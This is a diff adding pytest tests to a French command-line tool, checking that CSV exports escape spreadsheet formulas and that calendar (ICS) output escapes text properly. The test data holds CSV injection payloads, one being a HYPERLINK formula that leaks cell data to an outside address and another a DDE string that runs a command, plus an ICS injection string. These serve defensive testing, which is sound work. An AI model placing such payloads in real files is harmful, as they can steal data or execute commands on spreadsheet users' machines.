@@ -331,3 +331,53 @@ def test_a_symlinked_folder_never_takes_a_document_out_of_the_workspace(pacte_sq
     signed = pacte("conventions", "signer", "ASSO-2025-001", "--date", "2025-02-01", "--fichier", str(scan), ok=False)
     assert signed.exit_code == 1 and "mène hors de l'espace de travail" in signed.output
     assert list(outside.iterdir()) == [] and registry_state(pacte.root, None) == registry
+
+
+def test_csv_cells_a_spreadsheet_would_compute_are_protected(pacte: Pacte, tmp_path: Path) -> None:
+    """CSV exports and listings wrote `=HYPERLINK(…)` as is: Excel computes it. Now a leading = + - @ gets an
+    apostrophe (the import takes it off again: the round trip keeps the text), numbers are left alone, and
+    `--brut` keeps the exact text."""
+    data = yaml.safe_load((DATA / "alertes.yaml").read_text(encoding="utf-8"))
+    formula = '=HYPERLINK("http://192.0.2.1/?"&A1;"Cliquez")'
+    data["partenaires"][0]["nom"] = formula
+    data["partenaires"][1]["nom"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    path = tmp_path / "formules.yaml"
+    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    pacte("importer", str(path))
+    listed = pacte("partenaires", "lister", "--format", "csv").output
+    assert "'=HYPERLINK" in listed and "'@SUM" in listed
+    assert not any(cell.startswith(("=", "@")) for line in listed.splitlines() for cell in line.split(";"))
+    raw = pacte("partenaires", "lister", "--format", "csv", "--brut").output
+    assert '"=HYPERLINK(""http://192.0.2.1/?""&A1;""Cliquez"")"' in raw
+    exported = tmp_path / "export.csv"
+    pacte("exporter", str(exported))
+    partners = (tmp_path / "export-partenaires.csv").read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in partners and "'@SUM" in partners
+    pacte("exporter", str(tmp_path / "brut.csv"), "--brut")
+    assert '"=HYPERLINK' in (tmp_path / "brut-partenaires.csv").read_text(encoding="utf-8-sig")
+    again = Pacte(tmp_path / "autre", pacte.base)
+    again("init", str(again.root))
+    if pacte.base:
+        return  # one shared base: the round trip into a second workspace is the SQLite case
+    again("importer", *(str(p) for p in sorted(tmp_path.glob("export-*.csv"))))
+    names = {row["code"]: row["nom"] for row in json.loads(again("partenaires", "lister", "--format", "json").output)}
+    assert names[data["partenaires"][0]["code"]] == formula
+
+
+def test_ics_text_is_escaped_as_rfc_5545_says(pacte: Pacte, tmp_path: Path) -> None:
+    """A name holding « BEGIN:VEVENT » doubled the count of events in the message; a literal \\N became a newline
+    in the calendar."""
+    import icalendar
+
+    data = yaml.safe_load((DATA / "alertes.yaml").read_text(encoding="utf-8"))
+    name = "CCAS \\N BEGIN:VEVENT; a, b"
+    data["partenaires"][0]["nom"] = name
+    path = tmp_path / "agenda.yaml"
+    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    pacte("importer", str(path))
+    target = tmp_path / "echeances.ics"
+    result = pacte("--au", "2027-01-15", "alertes", "--ics", str(target))
+    events = icalendar.Calendar.from_ical(target.read_bytes()).walk("VEVENT")
+    assert len(events) == 6 and f"Calendrier écrit : {target} (6 échéances)" in result.output, result.output
+    summaries = [str(e["SUMMARY"]) for e in events]
+    assert any(name in s for s in summaries) and not any("\n" in s for s in summaries)
